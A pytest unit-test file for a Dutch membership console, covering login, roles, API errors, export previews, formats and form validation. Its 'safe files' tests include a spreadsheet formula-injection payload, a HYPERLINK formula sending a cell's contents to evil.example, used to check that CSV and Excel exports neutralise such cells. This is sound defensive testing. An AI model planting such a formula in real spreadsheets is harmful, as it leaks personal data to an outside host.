"""The console's plain logic: roles to pages, Cognito login, API client errors, export preview maths."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import threading
from collections.abc import Iterator
from datetime import date
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import boto3
import jwt
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import requests
from moto import mock_aws

from backend.local.seed import generate_members
from console import exports_view as ev
from console import formats, i18n, jobs_view, members_view, ops_view
from console import member_model as mm
from console.api_client import ApiClient, ApiError
from console.auth import CognitoLogin, CognitoSettings, LoginError, Tokens, groups_from_token
from console.i18n import language
from console.record_form import member_body, member_display_value, payload
from console.record_page import RECORD_TEXTS
from console.roles import pages_for

pytestmark = pytest.mark.unit

DEMO_GROUPS = {
    "admin": {"Members_Export", "Regio_All"},
    "regio-utrecht": {"Members_Read", "Regio_Utrecht"},
    "staff": {"Members_CRUD", "Products_CRUD", "Regio_All"},
    "ops": {"System_Logs_Read"},
    "root": {"System_CRUD"},
    "beheer": {"System_User_Management"},
}
EXPECTED_PAGES = {
    "admin": ["overview", "exports", "generate"],
    "regio-utrecht": ["overview", "exports"],
    "staff": ["overview", "exports", "generate", "members", "products"],
    "ops": ["overview", "stack", "health", "audit"],
    "root": ["overview", "exports", "generate", "members", "products", "stack", "health", "audit", "users"],
    "beheer": ["overview", "users"],
}


# ---------------------------------------------------------------------------- roles
@pytest.mark.parametrize("user", sorted(DEMO_GROUPS))
def test_each_demo_user_gets_exactly_their_pages(user: str) -> None:
    # GIVEN a demo user's groups WHEN the console picks pages THEN only the allowed ones, in menu order
    assert [p.key for p in pages_for(frozenset(DEMO_GROUPS[user]))] == EXPECTED_PAGES[user]


def test_a_permission_without_a_region_shows_no_member_pages() -> None:
    # GIVEN Members_CRUD without any Regio_* group THEN no member page (the API would give no rows)
    assert [p.key for p in pages_for(frozenset({"Members_CRUD"}))] == ["overview"]


# ---------------------------------------------------------------------------- auth
def test_groups_are_read_from_the_id_token_claim() -> None:
    token = jwt.encode({"cognito:groups": ["Members_Read", "Regio_Utrecht"]}, "k" * 32, algorithm="HS256")
    assert groups_from_token(token) == {"Members_Read", "Regio_Utrecht"}
    assert groups_from_token("not a token") == frozenset()


def test_tokens_ask_for_refresh_five_minutes_before_expiry() -> None:
    tokens = Tokens("id", "access", "refresh", expires_at=10_000.0, username="u")
    assert not tokens.needs_refresh(now=10_000.0 - 301)
    assert tokens.needs_refresh(now=10_000.0 - 299)


@pytest.fixture
def cognito_pool() -> Iterator[dict[str, Any]]:
    """A moto (in-process) user pool with a console client and one user in two groups."""
    with mock_aws():
        idp = boto3.client("cognito-idp", region_name="eu-west-1")
        pool = idp.create_user_pool(PoolName="console-test")["UserPool"]["Id"]
        client_id = idp.create_user_pool_client(
            UserPoolId=pool,
            ClientName="console",
            ExplicitAuthFlows=["ALLOW_USER_PASSWORD_AUTH", "ALLOW_REFRESH_TOKEN_AUTH"],
        )["UserPoolClient"]["ClientId"]
        idp.admin_create_user(UserPoolId=pool, Username="anna", MessageAction="SUPPRESS")
        idp.admin_set_user_password(
            UserPoolId=pool, Username="anna", Password="Long-enough-pw1", Permanent=True
        )
        for group in ("Members_Read", "Regio_Utrecht"):
            idp.create_group(UserPoolId=pool, GroupName=group)
            idp.admin_add_user_to_group(UserPoolId=pool, Username="anna", GroupName=group)
        yield {"idp": idp, "pool": pool, "client_id": client_id}


def _login(pool: dict[str, Any]) -> CognitoLogin:
    return CognitoLogin(CognitoSettings("eu-west-1", pool["pool"], pool["client_id"]))


def test_login_gives_tokens_with_groups_and_refresh_renews_them(cognito_pool: dict[str, Any]) -> None:
    # GIVEN a user in the pool WHEN they sign in THEN the ID token carries their groups
    tokens = _login(cognito_pool).login("anna", "Long-enough-pw1")
    assert tokens.username == "anna"
    assert tokens.groups == {"Members_Read", "Regio_Utrecht"}
    assert tokens.refresh_token and tokens.expires_at > 0
    # WHEN the tokens are refreshed THEN a new ID token comes back and the refresh token is kept
    renewed = _login(cognito_pool).refresh(tokens)
    assert renewed.id_token and renewed.refresh_token == tokens.refresh_token
    assert renewed.groups == tokens.groups


def test_wrong_password_and_unknown_user_read_the_same(cognito_pool: dict[str, Any]) -> None:
    login = _login(cognito_pool)
    for user, password in (("anna", "wrong-password-1"), ("nobody", "Long-enough-pw1")):
        with pytest.raises(LoginError) as caught:
            login.login(user, password)
        assert caught.value.kind == "wrong_password"
        assert caught.value.message == "Wrong username or password."


def test_a_disabled_user_is_told_the_account_is_disabled(cognito_pool: dict[str, Any]) -> None:
    cognito_pool["idp"].admin_disable_user(UserPoolId=cognito_pool["pool"], Username="anna")
    with pytest.raises(LoginError) as caught:
        _login(cognito_pool).login("anna", "Long-enough-pw1")
    assert caught.value.kind == "disabled"


def test_an_unreachable_login_service_is_said_plainly() -> None:
    # GIVEN a Cognito endpoint where nothing listens WHEN signing in THEN "cannot be reached", no traceback
    settings = CognitoSettings("eu-west-1", "eu-west-1_x", "client", endpoint_url="http://127.0.0.1:9")
    with pytest.raises(LoginError) as caught:
        CognitoLogin(settings).login("anna", "Long-enough-pw1")
    assert caught.value.kind == "unreachable"


# ---------------------------------------------------------------------------- API client
class _ErrorApi(BaseHTTPRequestHandler):
    """Answers like the gateway and the handlers do when things go wrong."""

    def do_GET(self) -> None:
        answers: dict[str, tuple[int, Any]] = {
            "/ops/stack": (403, {"error": {"code": "MISSING_AUTHENTICATION_TOKEN", "message": "Missing"}}),
            "/members/m1": (
                404,
                {"error": {"code": "not_found", "message": "no such member", "details": None}},
            ),
            "/members": (200, {"members": [{"member_id": "m1"}], "next_cursor": "abc"}),
            "/health": (200, {"status": "ok"}),
        }
        status, body = answers.get(self.path.split("?")[0], (500, "oops"))
        data = json.dumps(body).encode() if not isinstance(body, str) else body.encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_PUT(self) -> None:
        length = int(self.headers.get("Content-Length", 0))
        sent = json.loads(self.rfile.read(length))
        data = json.dumps(
            {"error": {"code": "conflict", "message": "stale version", "details": {"sent": sent["version"]}}}
        ).encode()
        self.send_response(409)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def error_api() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _ErrorApi)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_client_maps_every_answer_to_data_or_a_plain_error(error_api: str) -> None:
    api = ApiClient(error_api, "token", requests.Session())
    assert api.health() == {"status": "ok"}
    assert api.list_members() == ([{"member_id": "m1"}], "abc")
    with pytest.raises(ApiError) as missing:
        api.ops_stack()
    assert missing.value.endpoint_missing
    with pytest.raises(ApiError) as not_found:
        api.get_member("m1")
    assert (not_found.value.status, not_found.value.code) == (404, "not_found")
    with pytest.raises(ApiError) as conflict:
        api.update_member("m1", {"voornaam": "Anna"}, version=3)
    assert conflict.value.status == 409 and conflict.value.details == {"sent": 3}
    with pytest.raises(ApiError) as broken:
        api.request("GET", "/unknown")
    assert broken.value.status == 500 and "oops" not in broken.value.user_message()


def test_client_reports_an_unreachable_api() -> None:
    with pytest.raises(ApiError) as caught:
        ApiClient("http://127.0.0.1:9", None, requests.Session(), timeout=2).health()
    assert caught.value.unreachable and "cannot be reached" in caught.value.user_message()


# ---------------------------------------------------------------------------- export preview
@pytest.fixture(scope="module")
def export_frame() -> pd.DataFrame:
    """1,000 seeded members written as per-region Parquet parts (regio only in the path) and read back."""
    members = list(generate_members(1000))
    parts: list[tuple[str | None, bytes]] = []
    frame = pd.DataFrame(members)
    for regio, group in frame.groupby("regio"):
        table = pa.Table.from_pandas(group.drop(columns=["regio"]), preserve_index=False)
        buf = io.BytesIO()
        pq.write_table(table, buf)
        parts.append((str(regio), buf.getvalue()))
    return ev.to_frame(ev.read_parts(parts))


def test_parts_read_back_with_their_region_from_the_partition(export_frame: pd.DataFrame) -> None:
    assert len(export_frame) == 1000
    assert set(export_frame["regio"].astype(str)) <= set(pages_regions())
    assert ev.display_columns(export_frame)[0] == "lidnummer"
    assert ev.SEARCH_COLUMN not in ev.display_columns(export_frame)


def pages_regions() -> tuple[str, ...]:
    from console.roles import REGIONS

    return REGIONS


def test_filters_combine_region_status_and_search(export_frame: pd.DataFrame) -> None:
    # GIVEN the preview WHEN filtered on Utrecht and Actief THEN only such rows remain
    view = ev.apply_filters(export_frame, ev.Filters(regios=("Utrecht",), statuses=("Actief",)))
    assert len(view) > 0
    assert set(view["regio"].astype(str)) == {"Utrecht"} and set(view["status"].astype(str)) == {"Actief"}
    # WHEN searching a surname in any case THEN every hit carries it
    view = ev.apply_filters(export_frame, ev.Filters(search="  JANSEN "))
    assert len(view) > 0 and all(view["achternaam"] == "Jansen")
    # WHEN searching a lidnummer THEN that member is among the hits
    view = ev.apply_filters(export_frame, ev.Filters(search="777"))
    assert 777 in set(view["lidnummer"])
    # AND the cached frame is untouched
    assert len(export_frame) == 1000


def test_chart_data_adds_up_to_the_rows(export_frame: pd.DataFrame) -> None:
    assert ev.counts_by(export_frame, "regio")["leden"].sum() == 1000
    ages = ev.age_distribution(export_frame)
    assert ages["leden"].sum() == 1000
    bands = [tuple(map(int, label.split("-"))) for label in ages["leeftijd"]]
    assert all(hi - lo == 4 and lo % 5 == 0 for lo, hi in bands) and bands == sorted(bands)
    joins = ev.joins_per_year(export_frame)
    assert joins["leden"].sum() == 1000 and list(joins["jaar"]) == sorted(joins["jaar"])


def test_compare_finds_joined_left_and_changed_members(export_frame: pd.DataFrame) -> None:
    # GIVEN an old export, and a new one where member 1 left, one joined, 2 changed status and 3 region
    old = export_frame
    new = old[old["lidnummer"] != 1].copy()
    new["status"] = new["status"].astype(str)
    new["regio"] = new["regio"].astype(str)
    new.loc[new["lidnummer"] == 2, "status"] = "Opgezegd" if old.loc[1, "status"] != "Opgezegd" else "Actief"
    new.loc[new["lidnummer"] == 3, "regio"] = "Limburg" if old.loc[2, "regio"] != "Limburg" else "Oost"
    extra = old[old["lidnummer"] == 4].assign(member_id="new-member", lidnummer=1001)
    new = pd.concat([new, extra], ignore_index=True)
    # WHEN compared THEN exactly those show up
    diff = ev.compare_exports(old, new)
    assert list(diff.left["lidnummer"]) == [1]
    assert list(diff.joined["lidnummer"]) == [1001]
    assert list(diff.status_changed["lidnummer"]) == [2]
    assert list(diff.region_changed["lidnummer"]) == [3]
    assert diff.summary == {"joined": 1, "left": 1, "status": 1, "regio": 1}


def test_jubilarissen_are_active_members_reaching_10_25_or_40_years(export_frame: pd.DataFrame) -> None:
    jub = ev.jubilarissen(export_frame, 2026)
    assert len(jub) > 0
    years = 2026 - pd.to_datetime(jub["ingangsdatum"]).dt.year
    assert set(years) <= {10, 25, 40} and list(jub["jubileum"]) == list(years)
    assert set(jub["status"].astype(str)) == {"Actief"}
    # every qualifying active member is listed
    all_years = 2026 - pd.to_datetime(export_frame["ingangsdatum"]).dt.year
    expected = export_frame[all_years.isin([10, 25, 40]) & (export_frame["status"] == "Actief")]
    assert len(jub) == len(expected)


def test_downloads_hold_the_filtered_rows_and_chosen_columns(export_frame: pd.DataFrame) -> None:
    view = ev.apply_filters(export_frame, ev.Filters(regios=("Friesland",)))
    columns = ["lidnummer", "achternaam", "regio", "ingangsdatum"]
    csv = pd.read_csv(io.BytesIO(ev.csv_bytes(view, columns)), encoding="utf-8-sig", sep=";")
    assert len(csv) == len(view) and list(csv.columns) == ["Lidnummer", "Achternaam", "Regio", "Ingangsdatum"]
    xlsx = pd.read_excel(io.BytesIO(ev.excel_bytes(view, columns)))
    assert len(xlsx) == len(view) and set(xlsx["Regio"]) == {"Friesland"}
    assert list(xlsx.columns) == list(csv.columns)
    parquet = pd.read_parquet(io.BytesIO(ev.parquet_bytes(view, columns)))
    assert list(parquet["lidnummer"]) == list(view["lidnummer"]) and list(parquet.columns) == columns


def test_export_age_reads_for_people() -> None:
    from datetime import UTC, datetime

    now = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
    assert ev.age_text("2026-11-25T11:50:00+00:00", now) == "10 min"
    assert ev.age_text("2026-11-25T07:00:00Z", now) == "5 uur"
    assert ev.age_text("2026-11-20T12:00:00+00:00", now) == "5 dagen"
    assert ev.age_text(None, now) == "onbekend"
    with language("en"):
        assert ev.age_text("2026-11-20T12:00:00+00:00", now) == "5 days"
    assert ev.ages(pd.DataFrame({"geboortedatum": ["2000-12-01"]}), date(2026, 11, 25)).tolist() == [25]


# ---------------------------------------------------------------------------- jobs, ops, forms
def test_job_status_lines() -> None:
    from datetime import UTC, datetime

    now = datetime(2026, 11, 25, 10, 0, 15, tzinfo=UTC)
    queued = jobs_view.job_status(
        {"job_id": "j", "state": "queued", "created_at": "2026-11-25T10:00:00Z"}, now
    )
    assert queued.state == "running" and not queued.finished  # never a tick while it waits
    assert queued.detail == "Bezig sinds 15 s · 0 leden verwerkt"
    running = jobs_view.job_status(
        {"job_id": "j", "state": "running", "rows_so_far": 1200, "created_at": "2026-11-25T09:58:00Z"}, now
    )
    assert running.detail == "Bezig sinds 2 min 15 s · 1.200 leden verwerkt"
    done = jobs_view.job_status(
        {"job_id": "j", "state": "succeeded", "rows": 3001, "bytes": 2048, "duration_seconds": 12.4}
    )
    assert done.finished and done.state == "complete" and done.detail == "3.001 leden, 2 KB, gemaakt in 12 s."
    failed = jobs_view.job_status({"job_id": "j", "state": "failed", "error": "scan throttled"})
    assert failed.state == "error" and failed.error == "scan throttled"
    assert jobs_view.running_job_id({"running_job": {"job_id": "r1"}}) == "r1"
    job = {
        "job_id": "j",
        "state": "succeeded",
        "requested_by": "staff",
        "created_at": "2026-11-25T10:00:00+00:00",
        "started_at": "2026-11-25T10:00:00+00:00",
        "finished_at": "2026-11-25T10:00:30+00:00",
        "rows": 2001,
        "options": {"regio": "Utrecht", "active_only": True, "anonymize": True},
    }
    # The history reads as a sentence: local time, who, every option in full, rows, duration
    assert jobs_view.history_sentence(job) == (
        "25-11-2026 11:00: staff maakte een export (regio Utrecht, alleen actieve leden, geanonimiseerd)"
        " van 2.001 leden in 30 s. ✓"
    )
    assert "✓" not in jobs_view.history_sentence({**job, "state": "running"})


def test_health_checks_sorted_failures_first_and_statuses_normalised() -> None:
    checks = ops_view.health_checks(
        {
            "checks": [
                {"id": "a", "status": "pass", "detail": "ok"},
                {"id": "b", "status": "not applicable", "detail": "local"},
                {"id": "c", "status": "fail", "detail": "missing", "fix": "deploy"},
            ]
        }
    )
    assert [c.id for c in checks] == ["c", "a", "b"]
    assert ops_view.count_statuses(checks) == {"fail": 1, "pass": 1, "not_applicable": 1}
    assert ops_view.status_tone("UPDATE_ROLLBACK_COMPLETE") == "bad"
    assert ops_view.status_tone("CREATE_COMPLETE") == "good"


def test_update_payload_sends_only_changed_client_fields() -> None:
    original = {"member_id": "m", "version": 3, "voornaam": "Anna", "notities": "", "bouwjaar": 2001}
    entered = {"member_id": "m", "version": 3, "voornaam": "Anna ", "notities": "", "bouwjaar": 2002}
    assert payload(entered, original) == {"bouwjaar": 2002}
    assert payload({"voornaam": "Jan", "tussenvoegsel": ""}) == {"voornaam": "Jan"}


# ---------------------------------------------------------------------------- message catalogue
CONSOLE = Path(__file__).resolve().parents[2] / "console"
NOT_UI = (
    "cli.py",
    "ops_cmd.py",
    "image_cmd.py",
    "members_cmd.py",
    "smoke.py",
    "change_set.py",
    "session.py",  # the session cookie's server side: no Streamlit calls, its log lines are English
)  # the CLI: English
PLACEHOLDER = re.compile(r"{(\w*)}")


def used_message_ids() -> set[str]:
    """Every message id the console's code names: literal arguments of `t()`/`N_()`, the record
    kinds' texts and the field labels (keyed by the catalogue's field names)."""
    ids: set[str] = set()
    for path in CONSOLE.rglob("*.py"):
        if path.name in NOT_UI:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (isinstance(node, ast.Call) and node.args):
                continue
            name = getattr(node.func, "id", None) or getattr(node.func, "attr", None)
            first = node.args[0]
            if name in ("t", "N_") and isinstance(first, ast.Constant) and isinstance(first.value, str):
                ids.add(first.value)
    ids |= {f"{kind}.{text}" for kind in ("member", "product") for text in RECORD_TEXTS}
    ids |= {f"field.{f.name}" for f in mm.FIELDS}
    ids |= {f"field.{c}" for c in (*mm.COMPUTED_COLUMNS, *mm.COMPARISON_COLUMNS)}
    return ids


@pytest.mark.parametrize("lang", i18n.LANGUAGES)
def test_every_message_id_used_is_translated(lang: str) -> None:
    # GIVEN the ids the code uses WHEN looked up in the catalogue THEN each has a non-empty text
    catalogue = i18n.catalogue_messages(lang)
    used = used_message_ids()
    assert len(used) > 250  # the scan found the code's ids (an empty scan would pass vacuously)
    missing = sorted(m for m in used if not catalogue.get(m, "").strip())
    assert not missing, f"not translated in {lang}: {missing}"
    # AND the catalogue holds no id the code no longer uses (dead texts mislead translators)
    assert sorted(set(catalogue) - used) == []


def test_dutch_and_english_texts_take_the_same_placeholders() -> None:
    nl, en = i18n.catalogue_messages("nl"), i18n.catalogue_messages("en")
    assert set(nl) == set(en)
    for msgid in nl:
        assert set(PLACEHOLDER.findall(nl[msgid])) == set(PLACEHOLDER.findall(en[msgid])), msgid


def test_every_catalogue_field_has_a_label_that_is_not_its_key() -> None:
    for spec in mm.FIELDS:
        for lang in i18n.LANGUAGES:
            with language(lang):
                shown = mm.label(spec.name)
            assert shown and shown != spec.name, (lang, spec.name)
    assert (
        mm.label("lid_sinds") == mm.label("ingangsdatum") == "Ingangsdatum"
    )  # the legacy name reads as the new


def test_the_region_list_is_the_field_catalogue_s() -> None:
    from console.roles import REGIONS

    assert mm.FIELD_BY_NAME["regio"].vocabulary == REGIONS


# ---------------------------------------------------------------------------- Dutch formats
def test_numbers_money_dates_and_times_in_dutch_form() -> None:
    from datetime import datetime

    assert formats.number(2001) == "2.001"
    assert formats.euros(650) == "€\xa06,50"  # a no-break space keeps the sign with its amount
    # amounts typed the Dutch way (or with a decimal point) become cents; anything else is refused
    assert [formats.cents(x) for x in ("6,50", "€ 6,5", "1.250,00", "6.50", "12")] == [
        650,
        650,
        125000,
        650,
        1200,
    ]
    assert [formats.cents(x) for x in ("abc", "6,505", "-1")] == [None, None, None]
    assert formats.amount(650) == "6,50"
    assert formats.day("1986-10-01") == "01-10-1986"
    assert formats.day(date(1986, 10, 1)) == "01-10-1986"
    assert formats.day("12-3-1985") == "12-03-1985"
    assert formats.day("NA") == "NA"  # not a date: shown as stored
    # a UTC time with microseconds reads in Amsterdam time, to the minute (summer and winter)
    assert formats.moment("2026-11-25T10:00:05.123456+00:00") == "25-11-2026 11:00"
    assert formats.moment("2026-07-01T10:00:00") == "01-07-2026 12:00"
    assert formats.moment(datetime(2026, 11, 25, 10, 0)) == "25-11-2026 11:00"


# ---------------------------------------------------------------------------- safe files
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Klik hier")'


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "lidnummer": [1, 2, 3],
            "voornaam": ["=1+1", "+31 6 1234", HOSTILE],
            "achternaam": ["@SUM(A1)", "-2+3", "\tTab"],
            "woonplaats": ["\rCR", None, "Zeist"],
            "bouwjaar": [2003.0, float("nan"), 1999.0],
            "ingangsdatum": pd.to_datetime(["2001-02-03", None, "2010-10-10"]),
            "nieuwsbrief": [True, False, True],
        }
    )


def test_csv_is_dutch_excel_ready_and_carries_no_formula() -> None:
    # GIVEN members whose names start like formulas WHEN written as CSV
    data = ev.csv_bytes(hostile_frame())
    # THEN UTF-8 with a BOM, `;`-separated, headers are labels, and no cell starts a formula
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [
        "Lidnummer",
        "Voornaam",
        "Achternaam",
        "Woonplaats",
        "Bouwjaar",
        "Ingangsdatum",
        "Nieuwsbrief",
    ]
    assert rows[1] == ["1", "'=1+1", "'@SUM(A1)", "'\rCR", "2003", "03-02-2001", "Ja"]
    assert rows[2] == ["2", "'+31 6 1234", "'-2+3", "", "", "", "Nee"]
    assert rows[3][1] == "'" + HOSTILE and rows[3][2] == "'\tTab" and rows[3][5] == "10-10-2010"
    text = data.decode("utf-8-sig")
    assert "None" not in text and "nan" not in text and "2003.0" not in text
    for row in rows[1:]:
        assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in row), row


def test_excel_has_real_dates_and_text_cells_never_formulas() -> None:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(ev.excel_bytes(hostile_frame())))
    sheet = book.active
    assert [c.value for c in sheet[1]][:3] == ["Lidnummer", "Voornaam", "Achternaam"]
    name = sheet.cell(row=2, column=2)
    assert name.value == "'=1+1" and name.data_type == "s"
    link = sheet.cell(row=4, column=2)
    assert link.value == "'" + HOSTILE and link.data_type == "s"
    for row in sheet.iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row)
    joined = sheet.cell(row=2, column=6)
    assert joined.is_date and joined.number_format == "DD-MM-YYYY"
    assert sheet.cell(row=2, column=5).value == 2003 and isinstance(sheet.cell(row=2, column=5).value, int)
    assert sheet.cell(row=3, column=5).value is None  # no "nan" cell


def test_markdown_in_user_text_is_made_inert() -> None:
    shown = formats.md_escape("![x](http://example.invalid/x.png)")
    assert "![" not in shown and "](" not in shown
    assert shown.replace("\\", "").replace("\u200b", "") == "![x](http://example.invalid/x.png)"
    assert "http://" not in shown.replace("\\", "")  # no bare URL left for Markdown to autolink
    assert formats.md_escape(":red[boo] :material/home:").count("\\:") == 3


# ---------------------------------------------------------------------------- member form and validation
def test_every_problem_of_a_new_member_is_found_at_once_in_dutch() -> None:
    # GIVEN a new member with a bad postcode, email, date, IBAN and bouwjaar and no achternaam
    entered = {
        "voornaam": "Anna",
        "achternaam": "",
        "email": "geen-adres",
        "postcode": "12345",
        "land": "Nederland",
        "geboortedatum": "31-02-1990",
        "bankrekeningnummer": "NL00 XXXX",
        "bouwjaar": 1800,
        "regio": "Utrecht",
        "ingangsdatum": "1-2-2020",
        "nieuwsbrief": "Ja",
    }
    body, errors = member_body(entered, None)
    # THEN all six are reported together, each in Dutch, by field
    assert errors == {
        "achternaam": "Vul dit veld in.",
        "email": "Geen geldig e-mailadres.",
        "postcode": "Geen geldige Nederlandse postcode (zoals 1234 AB).",
        "geboortedatum": "Geen geldige datum; gebruik d-m-jjjj, bijvoorbeeld 12-3-1985.",
        "bankrekeningnummer": "Geen geldig IBAN (bijvoorbeeld NL91 ABNA 0417 1643 00).",
        "bouwjaar": "Vul een getal tussen 1900 en 2100 in.",
    }
    # AND what is valid goes in the stored form: ISO date, Ja/Nee under the club's names
    assert body["ingangsdatum"] == "2020-02-01" and body["nieuwsbrief"] == "Ja"


def test_an_update_sends_only_what_changed_and_keeps_legacy_values_nobody_touched() -> None:
    stored = {
        "member_id": "m",
        "version": 4,
        "voornaam": "Jan",
        "achternaam": "Smit",
        "email": "jan@example.org",
        "regio": "Utrecht",
        "geboortedatum": "12-3-1985",  # the spreadsheet's form
        "lid_sinds": "2001-02-03",  # the old API's name
        "bouwjaar": "NA",
        "postcode": "12345",  # not a Dutch postcode, stored long ago: kept while nobody edits it
        "nieuwsbrief": True,  # the old API's boolean
    }
    # the form starts from the stored values as shown (d-m-jjjj, Ja/Nee); nothing is changed
    start = {s.name: member_display_value(s, mm.normalise_record(stored).get(s.name)) for s in mm.FORM_FIELDS}
    assert start["geboortedatum"] == "12-3-1985" and start["ingangsdatum"] == "3-2-2001"
    assert start["nieuwsbrief"] == "Ja" and start["bouwjaar"] is None  # "NA" reads as unknown
    assert member_body(start, stored) == ({}, {})
    # WHEN only the ingangsdatum changes THEN only it goes, under its new name and in ISO form
    assert member_body({**start, "ingangsdatum": "4-2-2001"}, stored) == ({"ingangsdatum": "2001-02-04"}, {})


def test_a_422_becomes_one_dutch_message_per_field() -> None:
    details = [
        {"loc": ["body", "email"], "msg": "value is not a valid email", "type": "value_error"},
        {
            "loc": ["body", "telefoon"],
            "msg": "String should match pattern '^...'",
            "type": "string_pattern_mismatch",
        },
        {
            "loc": ["body", "lid_sinds"],
            "msg": "Input should be a valid date",
            "type": "date_from_datetime_parsing",
        },
        {"loc": ["body", "regio"], "msg": "Input should be 'Utrecht', ...", "type": "enum"},
        {"loc": ["body"], "msg": "Value error, something", "type": "value_error"},
    ]
    errors = mm.api_field_errors(details)
    assert errors == {
        "email": "Geen geldig e-mailadres.",
        "telefoon": "Bevat tekens die hier niet zijn toegestaan.",
        "ingangsdatum": "Geen geldige datum; gebruik d-m-jjjj, bijvoorbeeld 12-3-1985.",
        "regio": "Kies een waarde uit de lijst.",
        "": "Deze waarde wordt niet geaccepteerd.",
    }
    assert not any("Value error" in m or "^" in m for m in errors.values())


def test_values_outside_the_catalogue_are_flagged_from_the_api_or_read_here() -> None:
    # the API's problems list is used as it is (legacy names mapped)
    flagged = mm.problem_fields(
        {"problems": [{"field": "lid_sinds", "state": "invalid"}], "lid_sinds": "ooit"}
    )
    assert flagged == {"ingangsdatum": "invalid"}
    # without it, the console reads the values with the same catalogue
    legacy = {"geboortedatum": "31-02-1990", "status": "Weg", "bouwjaar": "NA", "postcode": "1234 AB"}
    assert mm.problem_fields(legacy) == {"geboortedatum": "invalid", "status": "invalid"}


def test_member_pages_are_even_and_hold_every_match() -> None:
    rows = [{"member_id": str(i), "lidnummer": i} for i in range(1, 48)]
    assert members_view.page_count(47, 25) == 2 and members_view.page_count(0, 25) == 1
    assert [len(members_view.page_of(rows, p, 25)) for p in (1, 2)] == [25, 22]
    table = members_view.table_rows([{"lidnummer": "NA", "voornaam": "X", "geboortedatum": "31-02-1990"}])
    assert table[0]["lidnummer"] == "" and table[0][members_view.PROBLEMS_COLUMN] == "Geboortedatum"


# ---------------------------------------------------------------------------- ops
def test_health_takes_the_console_s_own_endpoint_checks_where_the_api_could_not_run_them() -> None:
    checks = ops_view.health_checks(
        {
            "checks": [
                {
                    "id": "endpoint_health",
                    "status": "not_applicable",
                    "detail": "give `hdcn health --api-url`",
                },
                {"id": "generator_image_manifest", "status": "not_applicable", "detail": "no ECR locally"},
                {"id": "stack_status", "status": "pass", "detail": "CREATE_COMPLETE"},
            ]
        }
    )
    own = {"endpoint_health": ops_view.endpoint_check("endpoint_health", "/health", 200)}
    merged = ops_view.with_console_endpoint_checks(checks, own)
    assert ops_view.count_statuses(merged) == {"pass": 2, "not_applicable": 1}
    assert not any("--api-url" in c.detail for c in merged)
    tone, sentence = ops_view.health_sentence(merged)
    assert tone == "good" and sentence.startswith("Alle controles in orde")


def test_stack_summary_counts_statuses_failures_first() -> None:
    rows = [{"status": "CREATE_COMPLETE"}] * 3 + [
        {"status": "CREATE_FAILED"},
        {"status": "UPDATE_IN_PROGRESS"},
    ]
    counts = ops_view.resource_counts(rows)
    assert [c["status"] for c in counts] == ["CREATE_FAILED", "UPDATE_IN_PROGRESS", "CREATE_COMPLETE"]
    assert counts[-1]["count"] == 3
    assert ops_view.failures_first(rows)[0]["status"] == "CREATE_FAILED"


def test_csv_times_are_amsterdam_local_to_the_minute() -> None:
    frame = pd.DataFrame(
        {
            "updated_at": pd.to_datetime(["2026-11-25T10:00:05.123456Z", None], utc=True),
            "created_at": pd.to_datetime(["2026-07-01T10:00:00", "2026-07-01T10:30:00"]),  # naive: UTC
        }
    )
    rows = list(csv.reader(io.StringIO(ev.csv_bytes(frame).decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Gewijzigd op", "Aangemaakt op"]
    assert rows[1:] == [["25-11-2026 11:00", "01-07-2026 12:00"], ["", "01-07-2026 12:30"]]


# Streamlit calls whose first argument people read: it must come from the catalogue, never a literal.
UI_CALLS = frozenset(
    {
        "title", "header", "subheader", "markdown", "caption", "write", "text", "info", "warning", "error",
        "success", "toast", "button", "form_submit_button", "download_button", "link_button", "checkbox",
        "text_input", "text_area", "number_input", "selectbox", "multiselect", "radio", "metric", "expander",
        "status", "spinner", "tabs",
    }
)  # fmt: skip


def test_page_code_holds_no_ui_text() -> None:
    # GIVEN the console's UI code WHEN every Streamlit call's first argument is read
    # THEN none is written-out text: an f-string may only glue catalogue texts with punctuation
    found = []
    for path in [*CONSOLE.glob("app_pages/*.py"), *CONSOLE.glob("*.py")]:
        if path.name in NOT_UI:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.args):
                continue
            receiver = node.func.value
            if node.func.attr not in UI_CALLS or (isinstance(receiver, ast.Name) and receiver.id == "kind"):
                continue  # (a RecordKind's `text()` looks its message id up in the catalogue)
            first = node.args[0]
            parts = [first] if isinstance(first, ast.Constant) else []
            if isinstance(first, ast.JoinedStr):
                parts = [v for v in first.values if isinstance(v, ast.Constant)]
            words = [
                p.value for p in parts if isinstance(p.value, str) and re.search(r"[A-Za-z]{2}", p.value)
            ]
            if words:
                found.append(f"{path.name}:{node.lineno} {node.func.attr}({words[0]!r})")
    assert not found, found
